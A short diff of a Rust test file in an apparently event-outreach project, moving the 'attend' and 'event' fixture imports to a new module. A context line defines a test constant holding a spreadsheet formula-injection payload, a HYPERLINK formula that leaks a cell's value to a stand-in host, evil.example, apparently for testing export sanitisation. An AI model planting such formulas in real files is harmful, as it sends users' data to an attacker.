@@ -10,8 +10,8 @@ use outreach::domain::types::Role;
 use serde_json::json;
 
 use crate::both;
+use crate::fixtures::{attend, event};
 use crate::harness::TestApp;
-use crate::impact::{attend, event};
 
 const QUOTE: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Amazing show\")";
 
